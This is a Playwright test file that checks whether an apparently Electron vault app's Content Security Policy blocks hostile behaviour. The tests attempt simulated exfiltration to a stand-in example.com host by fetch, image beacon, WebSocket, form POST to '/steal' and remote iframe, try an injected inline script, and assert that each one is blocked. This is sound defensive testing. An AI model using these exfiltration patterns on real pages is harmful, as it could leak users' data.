/**
 * The security settings in force in a real Chromium: the CSP header arrives with the page, and the
 * browser enforces it: outbound requests, remote frames and navigation by form are all blocked.
 * (Window options, permissions and Electron's navigation hooks: tests/unit/security.test.ts.)
 */
import { buildCsp } from '../../src/main/security';
import { expect, test } from './fixtures';

test('the renderer is served with the app CSP', async ({ page, host }) => {
  const response = await page.goto(host.url);
  expect(response?.status()).toBe(200);
  expect(response?.headers()['content-security-policy']).toBe(buildCsp());
  expect(response?.headers()['x-content-type-options']).toBe('nosniff');
  // The app runs under it: its first screen is the vault's lock screen.
  await expect(page.getByTestId('lock-screen')).toBeVisible();
});

test('the page cannot be opened without the per-run token', async ({ page, host }) => {
  const response = await page.goto(host.origin + '/');
  expect(response?.status()).toBe(401);
});

test('outbound requests are blocked by the CSP before they leave the browser', async ({ app: page }) => {
  // Chromium reports the attempt as a request event that then fails; nothing may get a response.
  const external: string[] = [];
  page.on('response', (r) => {
    if (!r.url().startsWith('http://127.0.0.1')) external.push(r.url());
  });
  const result = await page.evaluate(async () => {
    const violations: string[] = [];
    document.addEventListener('securitypolicyviolation', (e) =>
      violations.push(`${e.effectiveDirective} ${e.blockedURI}`),
    );
    const fetched = await fetch('https://example.com/exfiltrate?x=1').then(
      () => 'sent',
      (e: unknown) => `blocked: ${String(e)}`,
    );
    const img = await new Promise<string>((resolve) => {
      const i = new Image();
      i.onload = () => resolve('loaded');
      i.onerror = () => resolve('blocked');
      i.src = 'https://example.com/pixel.png';
    });
    const ws = await new Promise<string>((resolve) => {
      try {
        const s = new WebSocket('wss://example.com/socket');
        s.onerror = () => resolve('blocked');
        s.onopen = () => resolve('open');
      } catch (e) {
        resolve(`blocked: ${String(e)}`);
      }
    });
    // The violation reports arrive as events after the blocked attempts: wait for them.
    await new Promise<void>((resolve) => {
      const done = () =>
        ['connect-src', 'img-src'].every((d) =>
          violations.some((v) => v.startsWith(`${d} https://example.com`)),
        );
      const check = () => (done() ? resolve() : requestAnimationFrame(check));
      check();
    });
    return { fetched, img, ws, violations };
  });
  expect(result.fetched).toContain('blocked');
  expect(result.img).toBe('blocked');
  expect(result.ws).toContain('blocked');
  expect(result.violations.some((v) => v.startsWith('connect-src https://example.com'))).toBe(true);
  expect(result.violations.some((v) => v.startsWith('img-src https://example.com'))).toBe(true);
  expect(external).toEqual([]);
});

test('navigation away by form and remote frames are denied', async ({ app: page, host }) => {
  const result = await page.evaluate(async () => {
    const violations: string[] = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));
    const form = document.createElement('form');
    form.action = 'https://example.com/steal';
    form.method = 'POST';
    document.body.appendChild(form);
    form.submit();
    const frame = document.createElement('iframe');
    frame.src = 'https://example.com/';
    document.body.appendChild(frame);
    // Wait for both reports (events); the test's own timeout bounds a missing one.
    await new Promise<void>((resolve) => {
      const check = () =>
        violations.includes('form-action') && violations.includes('frame-src')
          ? resolve()
          : requestAnimationFrame(check);
      check();
    });
    return violations;
  });
  expect(result).toContain('form-action');
  expect(result).toContain('frame-src');
  expect(page.url().startsWith(host.origin)).toBe(true);
});

test('inline scripts injected into the page do not run', async ({ app: page }) => {
  const ran = await page.evaluate(async () => {
    // An allowed inline script would run synchronously on append; a blocked one is reported.
    const reported = new Promise<string>((resolve) =>
      document.addEventListener('securitypolicyviolation', (e) => resolve(e.effectiveDirective)),
    );
    const s = document.createElement('script');
    s.textContent = 'window.__injected = true';
    document.body.appendChild(s);
    const directive = await reported;
    return { injected: (window as unknown as { __injected?: boolean }).__injected === true, directive };
  });
  expect(ran.injected).toBe(false);
  expect(ran.directive).toMatch(/^script-src/);
});
